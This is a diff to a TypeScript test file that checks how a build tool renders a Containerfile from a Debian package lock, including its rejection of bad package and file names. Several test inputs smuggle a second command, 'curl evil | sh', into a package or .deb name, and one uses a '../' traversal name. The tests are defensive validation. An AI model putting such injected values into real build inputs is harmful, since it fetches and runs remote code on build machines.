@@ -4,6 +4,7 @@ import * as path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { ForgeError } from '../../tools/src/diagnostics';
 import { containerfileData, renderContainerfile, satisfiesRequiresPython, type BaseRecord } from '../../tools/src/forge';
+import { debFileName, type DebianLock } from '../../tools/src/forge/debian-lock';
 import { debianArchiveUri } from '../../tools/src/forge/mirror';
 import type { SynthesisManifest } from '../../tools/src/synthesis/manifest';
 import { WORKSPACE } from '../support/codex-fixture';
@@ -11,7 +12,9 @@ import { WORKSPACE } from '../support/codex-fixture';
 const manifest = JSON.parse(fs.readFileSync(path.join(WORKSPACE, 'forge/synthesis.lock.json'), 'utf8')) as SynthesisManifest;
 const scrollText = fs.readFileSync(path.join(WORKSPACE, 'codex/lychd.toml'), 'utf8');
 const base: BaseRecord = { kind: 'debian', ref: 'bookworm', digest: `sha256:${'a'.repeat(64)}`, python: '3.11' };
-const inputs = { manifest, base, python: '3.11', port: 8000, scrollText, scrollFile: 'codex/lychd.toml' };
+const lock = JSON.parse(fs.readFileSync(path.join(WORKSPACE, 'forge/synthesis/debian.lock.json'), 'utf8')) as DebianLock;
+const debs = lock.packages.map(debFileName);
+const inputs = { manifest, base, debs, python: '3.11', port: 8000, scrollText, scrollFile: 'codex/lychd.toml' };
 const work = fs.mkdtempSync(path.join(os.tmpdir(), 'lychd-containerfile-'));
 afterAll(() => fs.rmSync(work, { recursive: true, force: true }));
 
@@ -28,11 +31,15 @@ function forgeError(fn: () => unknown): ForgeError {
 describe('the Containerfile of the example', () => {
   const text = renderContainerfile(WORKSPACE, containerfileData(inputs));
 
-  it('installs the sorted system packages with the cleanup, in one RUN', () => {
-    expect(text).toMatch(
-      /apt-get install -y --no-install-recommends \\\n {6}ffmpeg \\\n {6}sox \\\n {6}tesseract-ocr \\\n {6}tesseract-ocr-eng \\\n && apt-get clean/,
+  it("installs exactly the Debian lock's files from the context, without apt-get update, with the cleanup, in one RUN", () => {
+    const system = text.slice(text.indexOf('AS system'), text.indexOf('AS builder'));
+    expect(system).toContain('RUN --mount=type=bind,source=.forge/debs,target=/tmp/debs');
+    expect(system).not.toContain('apt-get update');
+    expect(system).toContain(
+      `apt-get install -y --no-install-recommends \\\n${debs.map((d) => `      /tmp/debs/${d} \\\n`).join('')} && apt-get clean`,
     );
-    expect(text).toContain('rm -rf /var/lib/apt/lists/* /var/log/apt/*');
+    expect(debs).toContain('ffmpeg_5.1.9-0+deb12u1_amd64.deb');
+    expect(system).toContain('rm -rf /var/lib/apt/lists/* /var/log/apt/*');
   });
 
   it('syncs the dependencies before it copies any source, offline with the mounted uv', () => {
@@ -71,6 +78,14 @@ describe('the Containerfile of the example', () => {
     );
     expect(pinned).toContain(`FROM ${ref} AS base`);
     expect(pinned).not.toContain('base.tar');
+    // A pinned image brings its own apt sources: its system packages are installed by name.
+    const byName = renderContainerfile(
+      WORKSPACE,
+      containerfileData({ ...inputs, debs: [], base: { kind: 'image', ref, digest: `sha256:${'b'.repeat(64)}` } }),
+    );
+    expect(byName).toMatch(
+      /apt-get update \\\n && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n {6}ffmpeg \\\n {6}sox \\\n {6}tesseract-ocr \\\n {6}tesseract-ocr-eng \\\n && apt-get clean/,
+    );
   });
 });
 
@@ -82,6 +97,12 @@ describe('what never reaches the Containerfile', () => {
     const e = forgeError(() => containerfileData({ ...inputs, manifest: bad }));
     expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].path', 'system[0].spec']);
     expect(e.message).toContain('forge/synthesis.lock.json: error: "ffmpeg; curl evil | sh" is not a Debian package name');
+  });
+
+  it('rejects a locked file name that is not a plain .deb name', () => {
+    const e = forgeError(() => containerfileData({ ...inputs, debs: [debs[0]!, 'x_1_all.deb; curl evil | sh', '../up_1_all.deb'] }));
+    expect(e.diagnostics.map((d) => d.field)).toEqual(['packages[1].filename', 'packages[2].filename']);
+    expect(e.message).toContain('forge/synthesis/debian.lock.json: error: "x_1_all.deb; curl evil | sh" is not a plain .deb file name');
   });
 
   it('says which Pythons disagree with forge.python, and where it is set', () => {
